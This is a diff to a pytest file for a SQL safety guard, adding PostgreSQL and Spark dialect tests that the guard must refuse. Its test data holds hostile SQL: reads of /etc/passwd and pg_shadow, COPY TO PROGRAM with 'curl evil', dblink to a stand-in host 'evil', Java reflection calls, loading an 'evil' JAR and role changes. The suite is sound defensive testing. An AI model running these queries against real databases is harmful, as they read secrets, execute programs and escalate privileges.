@@ -168,6 +168,94 @@ def test_the_guard_refuses_attacks(sql: str, reason: str) -> None:
     assert caught.value.code == "unsafe_sql"
 
 
+# The same key attacks read by the PostgreSQL and Spark SQL parsers (the engines check text in their own
+# dialect), then each engine's own ways out: server files, programs, settings, SQL on files, Java calls.
+COMMON_ATTACK_IDS = (
+    "stacked-drop", "stacked-after-comment", "stacked-after-line-comment", "semicolon-in-string-then-stacked",
+    "drop", "create", "insert", "update", "delete", "cte-shadows-allowed", "cte-shadows-real-table",
+    "cte-shadows-mixed-case", "cte-out-of-scope", "cte-forward-reference", "quoted-secrets",
+    "mixed-case-secrets", "mixed-case-keywords", "kelvin-sign-lookalike", "cyrillic-lookalike",
+    "union-secrets", "subquery-in-where", "scalar-subquery", "lateral-subquery", "information-schema",
+    "pg-catalog", "catalog-qualified", "other-schema", "schema-named-like-table", "recursive-cte",
+    "generate-series-as-table", "repeat", "getenv", "current-setting", "empty", "unterminated-string",
+)  # fmt: skip
+DIALECT_ATTACKS = {
+    "postgres": [
+        refuse("SELECT pg_read_file('/etc/passwd')", r"function 'pg_read_file'", "pg-read-file"),
+        refuse("SELECT * FROM pg_read_file('/etc/passwd')", "table functions", "pg-read-file-as-table"),
+        refuse("SELECT * FROM tickets, LATERAL pg_ls_dir('.') AS f", r"function 'pg_ls_dir'", "pg-ls-dir"),
+        refuse("SELECT lo_import('/etc/passwd')", r"function 'lo_import'", "lo-import"),
+        refuse("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "table functions", "dblink"),
+        refuse("COPY tickets TO PROGRAM 'curl evil'", "not COPY", "copy-to-program"),
+        refuse("COPY (SELECT * FROM secrets) TO '/tmp/x'", "not COPY", "copy-query-to-file"),
+        refuse("SET default_transaction_read_only = off", "not SET", "set-read-write"),
+        refuse("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "not SET", "session-read-write"),
+        refuse("SELECT set_config('statement_timeout', '0', false)", r"function 'set_config'", "set-config"),
+        refuse("SET ROLE postgres", "not SET", "set-role"),
+        refuse("RESET ROLE", "not RESET", "reset-role"),
+        refuse("SELECT pg_sleep(1000)", r"function 'pg_sleep'", "pg-sleep"),
+        refuse("SELECT * FROM tickets FOR UPDATE", "LOCK is not a read-only query", "select-for-update"),
+        refuse("SELECT * INTO stolen FROM tickets", "INTO is not a read-only query", "select-into"),
+        refuse("WITH d AS (DELETE FROM tickets RETURNING *) SELECT * FROM d", "DELETE", "delete-in-cte"),
+        refuse("DO $$ BEGIN PERFORM 1; END $$", "not DO", "do-block"),
+        refuse("CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "not CREATE", "create-function"),
+        refuse("SELECT query_to_xml('select * from secrets', true, true, '')", "query_to_xml", "query-to-xml"),
+        refuse("PREPARE p AS SELECT * FROM secrets", "not PREPARE", "prepare"),
+        refuse("EXECUTE p", "not EXECUTE", "execute"),
+        refuse("LISTEN x", "not LISTEN", "listen"),
+        refuse("TABLE secrets", "not TABLE", "table-statement"),
+        refuse("SELECT * FROM pg_shadow", "table 'pg_shadow'", "pg-shadow"),
+        refuse("SELECT * FROM public.secrets", "table 'public.secrets'", "public-secrets"),
+        refuse("SELECT * FROM generate_series(1, 1000000000000)", "table functions", "pg-generate-series"),
+        refuse("SELECT $$x$$ || pg_read_file('x') FROM tickets", r"function 'pg_read_file'", "dollar-quoted"),
+    ],
+    "spark": [
+        refuse("SELECT * FROM parquet.`/etc/passwd`", "file paths and URLs", "sql-on-parquet-file"),
+        refuse("SELECT * FROM csv.`file:///etc/passwd`", "file paths and URLs", "sql-on-csv-file"),
+        refuse("SELECT * FROM json.`s3a://bucket/x`", "file paths and URLs", "sql-on-s3"),
+        refuse("SELECT * FROM delta.`/tmp/x`", "file paths and URLs", "sql-on-delta"),
+        refuse("SELECT * FROM read_files('/etc')", "table functions", "read-files"),
+        refuse("SELECT reflect('java.lang.Runtime', 'getRuntime')", r"function 'reflect'", "reflect"),
+        refuse("SELECT java_method('java.lang.System', 'getenv', 'HOME')", "java_method", "java-method"),
+        refuse("SET spark.sql.runSQLOnFiles=true", "not SET", "set-run-sql-on-files"),
+        refuse("RESET spark.sql.ansi.enabled", "not RESET", "reset-conf"),
+        refuse("ADD JAR /tmp/evil.jar", "not ADD JAR", "add-jar"),
+        refuse("CACHE TABLE secrets", "not CACHE", "cache-table"),
+        refuse("CREATE TEMPORARY VIEW tickets AS SELECT * FROM secrets", "not CREATE", "temporary-view"),
+        refuse("CREATE TEMPORARY FUNCTION f AS 'Evil'", "not CREATE", "temporary-function"),
+        refuse("INSERT OVERWRITE DIRECTORY '/tmp/out' SELECT * FROM tickets", "not INSERT", "insert-directory"),
+        refuse("LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE tickets", "not LOAD", "load-data"),
+        refuse("EXECUTE IMMEDIATE 'SELECT * FROM secrets'", "not EXECUTE", "execute-immediate"),
+        refuse("SELECT * FROM IDENTIFIER('secrets')", "table functions", "identifier-clause"),
+        refuse("SELECT * FROM range(1000000000000)", "table functions", "spark-range"),
+        refuse("SELECT explode(sequence(1, 1000000000))", r"function 'explode'", "explode-sequence"),
+        refuse("SELECT * FROM global_temp.tickets", "table 'global_temp.tickets'", "global-temp"),
+        refuse("SELECT * FROM spark_catalog.default.secrets", "other databases", "other-catalog"),
+        refuse("SELECT * FROM `secrets`", "is not one of the allowed tables", "backquoted-secrets"),
+        refuse("SELECT input_file_name() FROM tickets", "input_file_name", "input-file-name"),
+        refuse("SHOW TABLES", "not SHOW", "show-tables"),
+    ],
+}
+
+
+def _dialect_attacks() -> Iterator[Any]:
+    common = {param.id: param for param in ATTACKS}
+    for dialect, own in DIALECT_ATTACKS.items():
+        for attack_id in COMMON_ATTACK_IDS:
+            sql, reason = common[attack_id].values
+            yield pytest.param(dialect, sql, reason, id=f"{dialect}-{attack_id}")
+        for param in own:
+            sql, reason = param.values
+            yield pytest.param(dialect, sql, reason, id=f"{dialect}-{param.id}")
+
+
+@pytest.mark.parametrize(("dialect", "sql", "reason"), list(_dialect_attacks()))
+def test_the_guard_refuses_attacks_in_each_engines_dialect(dialect: str, sql: str, reason: str) -> None:
+    with pytest.raises(UnsafeSQLError, match=reason) as caught:
+        check_sql(sql, allowed_tables=ALLOWED, known_tables=KNOWN, dialect=dialect)
+    assert str(caught.value).startswith("unsafe SQL refused: ")
+
+
 @pytest.mark.parametrize(
     "sql",
     [
@@ -231,11 +319,22 @@ MODEL_TABLES = [table.source for table in MODEL.tables]
 DEMO_TABLES = [*MODEL_TABLES, "demo_metadata"]
 
 
+@pytest.mark.parametrize("dialect", ["duckdb", "postgres", "spark"])
 @pytest.mark.parametrize(("spec", "identity"), LEGIT)
-def test_every_compiled_query_passes(spec: dict[str, Any], identity: Identity | None) -> None:
-    compiled = compile_query(MODEL, SemanticQuery.model_validate(spec), identity=identity, today=TODAY)
-    check_sql(compiled.sql, allowed_tables=MODEL_TABLES, known_tables=DEMO_TABLES)
+def test_every_compiled_query_passes(spec: dict[str, Any], identity: Identity | None, dialect: str) -> None:
+    compiled = compile_query(
+        MODEL, SemanticQuery.model_validate(spec), identity=identity, today=TODAY, dialect=dialect
+    )
+    check_sql(compiled.sql, allowed_tables=MODEL_TABLES, known_tables=DEMO_TABLES, dialect=dialect)
     check_query(compiled.expression, allowed_tables=MODEL_TABLES, known_tables=DEMO_TABLES)
+
+
+def test_what_another_dialect_may_call_stays_in_that_dialect() -> None:
+    """Spark's TIMESTAMPDIFF is allowed in Spark text (the compiler writes it there), not in DuckDB's."""
+    sql = "SELECT timestampdiff(SECOND, created_at, resolved_at) FROM tickets"
+    check_sql(sql, allowed_tables=ALLOWED, dialect="spark")
+    with pytest.raises(UnsafeSQLError, match="timestampdiff"):
+        check_sql(sql, allowed_tables=ALLOWED, dialect="duckdb")
 
 
 def test_the_legit_corpus_covers_enough() -> None:
